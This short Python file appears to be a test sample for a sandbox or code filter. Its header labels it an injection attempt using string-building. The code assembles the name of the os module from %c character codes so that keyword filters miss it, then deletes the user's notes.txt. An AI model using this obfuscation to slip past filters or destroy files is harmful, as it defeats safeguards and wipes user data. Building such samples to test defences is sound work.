# family: injection
# filterfamily: string-building
# tries: format the name of the OS module with %c codes and delete a file of the user's project with its remove()
# source: none
# exfil: no
import pydoc
import sys

token, home, hosttmp, tcp, udp, unix, decoy, userfiles = sys.argv[1:9]
m = pydoc.locate("%c%c" % (111, 115))
m.remove(userfiles + "/notes.txt")
